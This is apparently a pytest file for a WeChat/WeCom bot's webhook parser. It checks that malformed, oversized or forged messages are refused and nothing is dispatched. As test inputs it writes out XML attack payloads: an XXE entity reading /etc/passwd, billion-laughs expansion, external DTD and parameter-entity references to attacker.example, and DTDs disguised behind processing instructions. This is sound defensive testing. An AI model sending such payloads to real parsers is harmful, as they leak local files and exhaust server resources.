"""Hostile and malformed bodies are refused, nothing is dispatched, the server stays up."""

from __future__ import annotations

import json

import pytest
from aiohttp.test_utils import TestClient

from bot.safexml import MAX_WEBHOOK_BYTES, BadXml, parse_xml
from tests.bot.conftest import Recorder
from tests.bot.helpers import OA, WeComApp, WeComBot, now_ts, oa_text, sign

XXE = (
    '<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    "<xml><ToUserName>gh</ToUserName><FromUserName>o</FromUserName><CreateTime>1</CreateTime>"
    "<MsgType>text</MsgType><Content>&xxe;</Content><MsgId>1</MsgId></xml>"
)
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY a "lol">'
    + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9))
    + "]><xml><MsgType>text</MsgType><Content>&j;</Content></xml>"
)
BARE_DTD = '<!DOCTYPE xml SYSTEM "http://attacker.example/x.dtd"><xml><MsgType>text</MsgType></xml>'
PARAMETER_ENTITY = (
    '<!DOCTYPE xml [<!ENTITY % remote SYSTEM "http://attacker.example/e.dtd"> %remote;]><xml/>'
)


@pytest.mark.parametrize(
    "body",
    [XXE, LAUGHS, BARE_DTD, PARAMETER_ENTITY, "<xml><MsgType>text", "not xml", "", "<html/>"],
    ids=["xxe", "billion-laughs", "dtd", "parameter-entity", "truncated", "text", "empty", "root"],
)
async def test_hostile_or_malformed_xml_is_a_bad_request(
    bot_client: TestClient, recorder: Recorder, body: str
) -> None:
    oa = OA(bot_client)
    plain = await oa.post(body)  # correctly signed: the parser itself must refuse it
    assert plain.status == 400
    safe = await bot_client.post(
        "/bot/wechat", params={**oa.query(), "encrypt_type": "aes", "msg_signature": "x"}, data=body
    )
    assert safe.status in (400, 403)
    assert recorder.calls == []
    assert (await oa.post(oa_text("help"))).status == 200  # still serving


async def test_hostile_xml_inside_a_signed_ciphertext(
    bot_client: TestClient, recorder: Recorder
) -> None:
    oa = OA(bot_client)
    query, body = oa.seal(XXE, now_ts(), "5")
    resp = await bot_client.post("/bot/wechat", params=query, data=body)
    assert resp.status == 400 and recorder.calls == []


async def test_message_without_sender_or_type(bot_client: TestClient, recorder: Recorder) -> None:
    oa = OA(bot_client)
    for body in ("<xml><MsgType>text</MsgType></xml>", "<xml><FromUserName>o</FromUserName></xml>"):
        assert (await oa.post(body)).status == 400
    event = "<xml><FromUserName>o</FromUserName><MsgType>event</MsgType><Event/></xml>"
    assert (await oa.post(event)).status == 400
    assert recorder.calls == []


async def test_oversized_bodies_get_413(bot_client: TestClient, recorder: Recorder) -> None:
    oa = OA(bot_client)
    big = oa_text("x" * (MAX_WEBHOOK_BYTES + 1))
    assert (await oa.post(big)).status == 413

    async def chunks():  # no Content-Length: counted while reading
        for _ in range(5):
            yield b"<xml>" + b"x" * (MAX_WEBHOOK_BYTES // 4)

    resp = await bot_client.post("/bot/wechat", params=oa.query(), data=chunks())
    assert resp.status == 413
    bot = WeComBot(bot_client)
    resp = await bot_client.post(
        "/bot/wecom-bot",
        params={"msg_signature": "x", "timestamp": now_ts(), "nonce": "1"},
        data=b"{" * (MAX_WEBHOOK_BYTES + 10),
    )
    assert resp.status == 413
    assert bot.token and recorder.calls == []
    assert (await oa.post(oa_text("help"))).status == 200


async def test_wecom_bot_refuses_bad_json_and_bad_signatures(
    bot_client: TestClient, recorder: Recorder
) -> None:
    bot = WeComBot(bot_client)
    ts, n = now_ts(), "9"
    query, encrypt = bot.sealed_query('{"msgtype": "text"', ts, n)  # signed, but not JSON inside
    resp = await bot_client.post("/bot/wecom-bot", params=query, data=f'{{"encrypt": "{encrypt}"}}')
    assert resp.status == 400
    for data in ("[1, 2]", "{", '{"Encrypt": "x"}', "[" * 5000 + "]" * 5000):
        resp = await bot_client.post("/bot/wecom-bot", params=query, data=data)
        assert resp.status == 400, data[:20]
    forged = {**query, "msg_signature": "0" * 40}
    resp = await bot_client.post(
        "/bot/wecom-bot", params=forged, data=f'{{"encrypt": "{encrypt}"}}'
    )
    assert resp.status == 403
    assert recorder.calls == []


@pytest.mark.parametrize(
    "body",
    [
        LAUGHS.replace('"1.0"?>', '"1.0" encoding="UTF-16"?>').encode("utf-16"),  # BOM
        LAUGHS.replace('"1.0"?>', '"1.0" encoding="UTF-16LE"?>').encode("utf-16-le"),  # none
        b"<xml><!-- a comment --><MsgType>text</MsgType></xml>",
        b"<xml><MsgType>te\x00xt</MsgType></xml>",
        b"<xml><Content><![CDATA[unterminated <!DOCTYPE x></Content></xml>",
    ],
    ids=["utf16-bom", "utf16-no-bom", "comment", "nul", "unterminated-cdata"],
)
def test_declarations_are_refused_whatever_the_encoding(body: bytes) -> None:
    with pytest.raises(BadXml):
        parse_xml(body)


def test_declaration_like_text_inside_cdata_is_just_text() -> None:
    text = "看 <!DOCTYPE x> 和 <!-- 这个 --> ]]"
    body = f"<xml><MsgType>text</MsgType><Content><![CDATA[{text}]]></Content></xml>".encode()
    assert parse_xml(body) == {"MsgType": "text", "Content": text}


# A CDATA opening inside a processing instruction hides a DTD from the text check: expat
# itself must refuse the DOCTYPE, before any entity is declared.
BEHIND_PI = (
    '<?pi <![CDATA[ ?><!DOCTYPE xml [<!ENTITY a "lol">]>'
    '<xml k="]]>"><MsgType>text</MsgType><Content>&a;</Content></xml>'
)
LAUGHS_BEHIND_PI = LAUGHS.replace('<?xml version="1.0"?>', "<?pi <![CDATA[ ?>").replace(
    "<xml>", '<xml k="]]>">'
)


@pytest.mark.parametrize(
    "body",
    [BEHIND_PI, LAUGHS_BEHIND_PI, "<xml>" + "<![CDATA[" * 7000, "<!x" + "<![CDATA[" * 7000],
    ids=["dtd-behind-pi", "laughs-behind-pi", "cdata-openings", "declaration-then-openings"],
)
def test_hostile_bodies_are_refused(body: str) -> None:
    # Safe mode parses the envelope before checking msg_signature: anyone can send these.
    # How fast they are refused is measured by bench/p_xml.py.
    assert len(body) <= MAX_WEBHOOK_BYTES
    with pytest.raises(BadXml):
        parse_xml(body)


def test_the_tree_is_children_of_the_root() -> None:
    body = (
        "<xml>\n<MsgType><![CDATA[event]]></MsgType>\n<Event>pic_sysphoto</Event>"
        "<SendPicsInfo><Count>1</Count><PicList><item><PicMd5Sum>ab&amp;c</PicMd5Sum></item>"
        "</PicList></SendPicsInfo><Empty/><Twice>1</Twice><Twice>2</Twice></xml>"
    )
    assert parse_xml(body) == {
        "MsgType": "event",
        "Event": "pic_sysphoto",
        "SendPicsInfo": {"Count": "1", "PicList": {"item": {"PicMd5Sum": "ab&c"}}},
        "Empty": "",
        "Twice": "2",
    }
    assert parse_xml("<xml>only text</xml>") == {}


def test_nesting_is_bounded() -> None:
    def nested(levels: int) -> str:
        return "<xml>" + "<a>" * levels + "x" + "</a>" * levels + "</xml>"

    assert parse_xml(nested(9))
    with pytest.raises(BadXml):
        parse_xml(nested(10))


def _seal_raw(key: bytes, plain: bytes) -> str:
    """AES-CBC as WeChat seals a message (IV = key[:16], PKCS#7 to 32 bytes), of any plaintext."""
    import base64

    from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

    pad = 32 - len(plain) % 32
    encryptor = Cipher(algorithms.AES(key), modes.CBC(key[:16])).encryptor()
    return base64.b64encode(
        encryptor.update(plain + bytes([pad]) * pad) + encryptor.finalize()
    ).decode()


def _plain(body: bytes, receive_id: bytes, *, length: int | None = None) -> bytes:
    size = len(body) if length is None else length
    return b"R" * 16 + size.to_bytes(4, "big") + body + receive_id


@pytest.mark.parametrize("case", ["other-receive-id", "zero-length"])
async def test_wecom_ciphertext_for_another_receiver_is_a_bad_request(
    bot_client: TestClient, recorder: Recorder, case: str
) -> None:
    """wechatpy's InvalidCorpIdException is no InvalidAppIdException: it escaped as a 500."""
    app = WeComApp(bot_client)
    xml = app.xml("help").encode()
    plain = (
        _plain(xml, b"wwSomeoneElse")
        if case == "other-receive-id"
        else _plain(xml, app.corp_id.encode(), length=0)
    )
    encrypt = _seal_raw(app.crypto.key, plain)
    ts, n = now_ts(), "7"
    query = {"msg_signature": sign(app.token, ts, n, encrypt), "timestamp": ts, "nonce": n}
    body = f"<xml><Encrypt><![CDATA[{encrypt}]]></Encrypt></xml>"
    resp = await bot_client.post("/bot/wecom", params=query, data=body)
    assert resp.status == 400, await resp.text()

    bot = WeComBot(bot_client)
    payload = json.dumps(WeComBot.text("help")).encode()
    plain = (
        _plain(payload, b"wwSomeone")
        if case == "other-receive-id"
        else _plain(payload, b"", length=0)
    )
    encrypt = _seal_raw(bot.crypto.key, plain)
    query = {"msg_signature": sign(bot.token, ts, n, encrypt), "timestamp": ts, "nonce": n}
    resp = await bot_client.post(
        "/bot/wecom-bot", params=query, data=json.dumps({"encrypt": encrypt})
    )
    assert resp.status == 400, await resp.text()
    assert recorder.calls == []
